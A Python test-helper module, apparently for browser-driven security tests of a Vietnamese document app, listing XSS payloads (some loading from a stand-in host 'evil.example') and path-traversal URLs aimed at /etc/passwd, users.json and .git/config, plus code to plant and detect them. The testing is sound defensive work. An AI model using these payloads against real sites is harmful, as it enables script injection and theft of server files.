"""What an attacker would try: markup where wording is expected, and addresses outside the folders.

Each piece of markup, taken as markup anywhere, sets ``window.hacked``, creates an element that no
page has, or asks another machine for something.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Page

HOSTILE = '<img src=x onerror="window.hacked=1">'
HOSTILE_NAME = "<img src=x onerror=window.hacked=1>.txt" if os.name != "nt" else "hostile.txt"
HOSTILE_QUESTION = "Ai chịu trách nhiệm chăm sóc vườn hoa Ánh Dương?"

MARKUP = (
    HOSTILE,
    "<script>window.hacked=1</script>",
    "<ScRiPt/x>window.hacked=1</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<svg onload=window.hacked=1></svg>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
    '<svg><use href="https://evil.example/x.svg#x"></use></svg>',
    '"><script>window.hacked=1</script>',
    "'><img src=x onerror=window.hacked=1>",
    '" autofocus onfocus="window.hacked=1',
    "' onmouseover='window.hacked=1",
    "</textarea><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>",
    "</style></noscript><script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</mark></blockquote></article><img src=x onerror=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<video><source onerror=window.hacked=1></video>",
    "<body onload=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<marquee onstart=window.hacked=1>x</marquee>",
    '<a href="javascript:window.hacked=1">x</a>',
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<iframe src="javascript:parent.hacked=1"></iframe>',
    '<object data="data:text/html,<script>parent.hacked=1</script>"></object>',
    '<embed src="javascript:window.hacked=1">',
    '<form action="https://evil.example/"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<math><mtext><mglyph><style><img src=x onerror=window.hacked=1></style></math>",
    "&lt;img src=x onerror=window.hacked=1&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "\\u003cimg src=x onerror=window.hacked=1\\u003e",
    "[x](javascript:window.hacked=1)",
    "![x](https://evil.example/x.png)",
    '{{constructor.constructor("window.hacked=1")()}}',
    "${window.hacked=1}",
    "#{window.hacked=1}",
    "<%= window.hacked=1 %>",
    "javascript:window.hacked=1//",
    # Last, because what follows an open comment or an open tag would be swallowed.
    "<!--><img src=x onerror=window.hacked=1>-->",
    "<img src=x onerror=window.hacked=1//",
)

# Addresses of files and folders that no route may give out; {id} is a loaded document's.
TRAVERSALS = (
    "/kb/../theme.py",
    "/kb/%2e%2e/theme.py",
    "/kb/..%2ftheme.py",
    "/kb/..%5ctheme.py",
    "/kb//etc/passwd",
    "/kb/%2fetc%2fpasswd",
    "/static/../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/assets/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/assets//etc/passwd",
    "/file={corpus}",
    "/gradio_api/file={corpus}",
    "/gradio_api/file={app}",
    "/gradio_api/file=/etc/passwd",
    "/gradio_api/file=..%2f..%2f..%2fetc%2fpasswd",
    "/gradio_api/proxy=https://evil.example/",
    "/gradio_api/upload",
    "/van-ban/..%2f..%2fetc%2fpasswd",
    "/van-ban/../../etc/passwd",
    "/van-ban/%00",
    "/api/documents/..%2f..%2fetc%2fpasswd/original",
    "/api/documents/../../../etc/passwd/original",
    "/api/documents/%2fetc%2fpasswd/text",
    "/api/documents/{id}%00/original",
    "/api/documents/{id}/original/../../../../etc/passwd",
    "/api/documents/{id}/pages/..%2f..%2f1.png",
    "/api/documents/{id}/pages/-1.png",
    "/api/documents/{id}/pages/1e9.png",
    "/api/documents/{id}/pages/999999.png",
    "/api/question-sets/..%2fusers.json",
    "/api/question-sets/..%2f..%2f..%2fetc%2fpasswd",
    "/api/question-sets/%2fetc%2fpasswd",
    "/api/question-sets/..%5cusers.json",
    "/api/evaluations/..%2f..%2f..%2fetc%2fpasswd/report.html",
    "/api/evaluations/..%2fx/report.json",
    "/api/evaluations/%2e%2e/report.html",
    "/users.json",
    "/audit.log",
    "/.git/config",
    "/docs",
    "/redoc",
    "/openapi.json",
)

# Elements and attributes that no page of the app has; what a payload would have made.
_FOREIGN = """
() => {
  const tags = "iframe, object, embed, marquee, video, math, " +
    "base[href*='evil'], form[action*='evil'], " +
    "meta[http-equiv='refresh' i], link[href*='evil'], [src*='evil'], img[src='x'], " +
    "a[href^='javascript:' i]";
  const made = [...document.querySelectorAll(tags)];
  for (const element of document.querySelectorAll("body *")) {
    if ([...element.attributes].some((each) => /^on/i.test(each.name))) made.push(element);
    if (element.localName === "script" && element.textContent.includes("hacked=1")
        && !element.textContent.startsWith("window.gradio_config")) made.push(element);
  }
  return made.map((element) => element.outerHTML.slice(0, 200));
}
"""


def write_hostile_document(folder: Path) -> None:
    """Write a document with every piece of ``MARKUP`` in its text, one point each."""
    points = "\n".join(
        f"{number}. Khóm hoa thứ {number}: {each}" for number, each in enumerate(MARKUP, start=1)
    )
    (folder / HOSTILE_NAME).write_text(
        f"QUYẾT ĐỊNH\nVề việc chăm sóc vườn hoa Ánh Dương {HOSTILE}\n"
        f"Điều 1. Tổ {HOSTILE} chịu trách nhiệm chăm sóc vườn hoa Ánh Dương.\n"
        f"Điều 2. Danh sách các khóm hoa\n{points}\n",
        encoding="utf-8",
    )


def write_hostile_glossary(folder: Path) -> Path:
    """Write a staff glossary whose terms are markup; returns its path."""
    path = folder / "glossary.tsv"
    path.write_text(
        f"vườn hoa {HOSTILE}\tzinnia bed\n</script>{HOSTILE}\tmarigold bed\t\tZBX\n",
        encoding="utf-8",
    )
    return path


def came_to_life(page: Page) -> list[str]:
    """Return what of ``MARKUP`` ran, or became an element, in the open page."""
    ran = ["window.hacked"] if page.evaluate("window.hacked") is not None else []
    made: list[str] = page.evaluate(_FOREIGN)
    return ran + made
